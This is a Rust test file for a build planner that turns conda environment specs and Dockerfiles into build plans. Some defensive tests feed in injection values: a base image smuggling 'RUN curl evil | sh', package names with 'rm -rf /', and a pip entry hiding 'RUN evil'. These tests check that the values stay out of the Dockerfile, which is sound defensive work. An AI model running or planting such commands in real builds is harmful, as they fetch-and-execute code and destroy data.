//! What a builder gets to do.
#![cfg(not(target_arch = "wasm32"))]

mod support;

use definition::{Definition, Invalid, canonical, plan};
use support::{conda_canonical, dockerfile_canonical};

#[test]
fn equal_hashes_have_equal_plans() {
    let one = plan(&conda_canonical("dependencies: [python=3.11, {pip: [b, --pre, A]}]"));
    let other = plan(&conda_canonical("name: x\ndependencies: [{pip: [a, B, --pre]}, python=3.11]"));
    assert_eq!(one, other);
    let python = one.python.expect("conda manages the packages");
    assert_eq!(python.requirements, "--pre\na\nb\n");
    assert_eq!(python.virtual_environment.as_deref(), Some("=3.11"));
    assert_eq!(one.dockerfile, "FROM docker.io/library/python:3.12\n");
}

#[test]
fn a_virtual_environment_needs_python_and_pip_at_most() {
    let wanted = |dependencies: &str| {
        let plan = plan(&conda_canonical(&format!("dependencies: {dependencies}"))).python.expect("packages");
        plan.virtual_environment.map(|python| (python, plan.requirements))
    };
    let some = |python: &str, requirements: &str| Some((python.to_owned(), requirements.to_owned()));
    assert_eq!(wanted("[]"), some("", ""));
    assert_eq!(wanted("[pip, python]"), some("", ""));
    assert_eq!(wanted("['python>=3.9,<3.13', pip=24.0]"), some(">=3.9,<3.13", "pip==24.0.*\n"));
    assert_eq!(wanted("[python 3.11.4, 'pip>=23|<20']"), None);
    assert_eq!(wanted("[python=3.11=h1_cpython]"), None);
    assert_eq!(wanted("['python[version=3.11]']"), None);
    assert_eq!(wanted("[python=3.11, 'python<4']"), None);
    assert_eq!(wanted("[conda-forge::python]"), None);
    assert_eq!(wanted("[python, numpy]"), None);
}

#[test]
fn the_dockerfile_has_one_line_for_each_step() {
    let canonical = dockerfile_canonical(
        "# syntax=docker/dockerfile:1\nFROM --platform=linux/arm64 ubuntu:22.04\n\
         RUN a \\\n  # comment\n  b\nRUN <<EOF\n  kept\nEOF\nenv A=1\n",
    );
    let plan = plan(&canonical);
    assert_eq!(plan.platform, "linux/arm64");
    assert_eq!(plan.base_image.as_deref(), Some("docker.io/library/ubuntu:22.04"));
    insta::assert_snapshot!(plan.dockerfile, @r"
    # syntax=docker/dockerfile:1
    FROM docker.io/library/ubuntu:22.04
    RUN a   b
    RUN <<EOF
      kept
    EOF
    ENV A=1
    ");
    assert!(plan.python.is_none());
}

#[test]
fn a_planned_dockerfile_has_the_digests_it_was_planned_from() {
    for text in [
        "FROM a:1 AS x\nFROM a:1\nCOPY --from=x / /\n",
        "FROM scratch\nCOPY <<A <<B /\na\nA\nb\nB\n",
        "# escape=`\nFROM a:1\nRUN dir c:\\\nRUN two `\n  three\n",
        "ARG X=1\nFROM a:$X\nRUN b",
    ] {
        let canonical = dockerfile_canonical(text);
        let planned = plan(&canonical).dockerfile;
        assert_eq!(dockerfile_canonical(&planned), canonical, "{planned}");
    }
}

#[test]
fn a_step_or_base_image_with_a_line_break_adds_no_line() {
    let image = |image: &str| Definition { base_image: Some(image.into()), ..Definition::default() };
    let evil = canonical(&image("python:3\nRUN curl evil | sh"));
    assert_eq!(evil, Err(Invalid::NotAReference("python:3\\nRUN curl evil | sh".into())));
    assert!(canonical(&image("python:3 AS x")).is_err());
    let text =
        Definition { dockerfile: Some("FROM a:1\nRUN echo \u{2028}RUN x\rRUN y".into()), ..Definition::default() };
    let planned = plan(&canonical(&text).expect("a base")).dockerfile;
    assert_eq!(planned.lines().count(), 2, "{planned}");
}

#[test]
fn a_package_never_reaches_the_dockerfile() {
    let plan = plan(&conda_canonical("dependencies: ['x; rm -rf /', {pip: ['y; rm -rf /', \"z\\nRUN evil\"]}]"));
    assert_eq!(plan.dockerfile, "FROM docker.io/library/python:3.12\n");
    let python = plan.python.expect("packages");
    assert_eq!(python.conda, ["x; rm -rf /"]);
    assert_eq!(python.requirements, "RUN evil\ny; rm /\nz\n");
}

#[test]
fn an_option_that_pip_passes_over_behind_a_requirement_is_not_given_to_the_installer() {
    let requirements = |pip: &str| {
        let plan = plan(&conda_canonical(&format!("dependencies: [{{pip: ['{pip}']}}]")));
        plan.python.expect("conda manages the packages").requirements
    };
    assert_eq!(requirements("torch>=2.1 --index-url https://example.org/wheels"), "torch>=2.1\n");
    assert_eq!(requirements("torch --pre -f=a --hash=sha256:0 -i b"), "torch --hash=sha256:0\n");
    assert_eq!(requirements("torch --upgrade --pre"), "torch --upgrade --pre\n", "pip refuses this line");
}
